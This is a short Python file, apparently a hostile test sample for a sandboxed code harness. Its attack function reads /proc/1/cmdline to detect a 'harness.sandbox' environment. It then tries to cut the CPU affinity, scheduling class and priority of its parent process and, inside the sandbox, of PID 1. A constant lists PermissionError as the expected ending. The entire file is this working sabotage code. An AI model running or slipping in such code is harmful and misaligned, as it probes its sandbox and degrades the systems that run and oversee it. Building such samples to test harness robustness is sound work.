"""Reduces the processors and the priority of the processes that fork it."""

ENDS = ["PermissionError"]


def attack(tensor):
    import os
    import sys

    with open("/proc/1/cmdline") as first:
        hosts = [os.getppid(), *[1] * ("harness.sandbox" in first.read())]
    refused = 0
    for host in hosts:
        for change in (
            lambda: os.sched_setaffinity(host, {min(os.sched_getaffinity(0))}),
            lambda: os.sched_setscheduler(host, os.SCHED_IDLE, os.sched_param(0)),
            lambda: os.setpriority(os.PRIO_PROCESS, host, 19),
            lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(host), 19),
        ):
            try:
                change()
            except PermissionError:
                refused += 1
    if refused == 4 * len(hosts):
        raise PermissionError("all of them")
